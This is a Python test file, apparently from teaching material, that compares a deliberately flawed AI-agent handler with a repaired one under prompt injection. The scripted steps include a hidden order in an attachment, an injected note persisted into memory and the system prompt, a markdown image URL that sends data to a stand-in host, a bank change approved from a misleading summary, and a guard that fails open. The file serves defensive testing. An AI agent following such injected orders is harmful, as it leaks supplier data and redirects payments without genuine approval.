import importlib.util
from pathlib import Path
from types import SimpleNamespace as N


def module(name):
    path = Path(__file__).with_name(name)
    spec = importlib.util.spec_from_file_location(path.stem, path)
    made = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(made)
    return made


assert round(1 - 0.97**20, 2) == 0.46  # 20 tries at 97 %: 46 %
assert round(1 - 0.995**20, 2) == 0.10  # 10 %
wrong, fixed = module("listing.py"), module("fixed.py")


class Database:
    def __init__(self):
        self.updates, self.asked = [], []

    def connect(self, user, supplier=None):
        return self

    def rows(self, table, supplier):
        self.asked.append(supplier)
        return ["row of " + supplier]

    def text(self, name):
        return "HIDDEN ORDER"

    def update(self, table, supplier, **values):
        self.updates.append((supplier, values))


class Memory(list):
    def read(self):
        return "\n".join(self)


def step(tool=None, args=None, note=None, summary="", text=""):
    return N(tool=tool, args=args or {}, note=note, summary=summary, text=text)


def player(steps):
    left = list(steps)
    seen = []

    def model(system, messages):
        seen.append(system)
        return left.pop(0)

    return model, seen


calm = N(hostile=lambda text: "HIDDEN" in text)
shown = []
preview = N(markdown=lambda text, load_images: shown.append(load_images) or text)
monday = [
    step("read_attachment", {"file": "offer.pdf"}),
    step("find_invoices", {"supplier": "Halvor"}, note="NOTE FROM FILE"),
    step(text="![x](https://img.example.net/?d=41)"),
]
db, memory = Database(), Memory()
model, _ = player(monday)
wrong.handle(N(body="hello"), model, wrong.Tools(db), calm, memory, None, preview)
assert db.asked == ["Halvor"] and shown == [True] and memory == ["NOTE FROM FILE"]  # F1 to F4

# Wednesday: the note is in the system prompt; the summary differs from the call
approved = []
model, seen = player([step("change_bank", {"supplier": "Halvor", "account": "X"}, summary="phone"), step(text="ok")])
wrong.handle(N(body="delivery?"), model, wrong.Tools(db), calm, memory, lambda s: approved.append(s) or True, preview)
assert "NOTE FROM FILE" in seen[0] and approved == ["phone"] and db.updates == [("Halvor", {"account": "X"})]

# F6: a guard that raises
broken = N(hostile=lambda text: 1 / 0)
model, _ = player([step(text="done")])
assert wrong.handle(N(body="HIDDEN"), model, None, broken, Memory(), None, preview) == "done"

# the repaired version
db = Database()
tools = fixed.Tools(db, "Nordkiste", {"offer.pdf"})
model, _ = player(monday)
assert fixed.handle(N(body="hello"), model, tools, calm, None, None, preview) == "to a person"
model, _ = player([step("find_invoices", {"supplier": "Halvor"}), step(text="ok")])
fixed.handle(N(body="hello"), model, tools, calm, None, None, preview)
assert db.asked == ["Nordkiste"] and shown[-1] is False
asked, queue = [], []
model, _ = player([step("change_bank", {"supplier": "Halvor", "account": "X"}, summary="phone"), step(text="ok")])
fixed.handle(
    N(body="hi"), model, tools, calm, N(put=lambda *a: queue.append(a)),
    lambda name, args: asked.append((name, args)) or False, preview,
)
assert asked == [("change_bank", {"supplier": "Halvor", "account": "X"})] and not queue and not db.updates
model, _ = player([step(text="done")])
assert fixed.handle(N(body="hello"), model, tools, broken, None, None, preview) == "to a person"
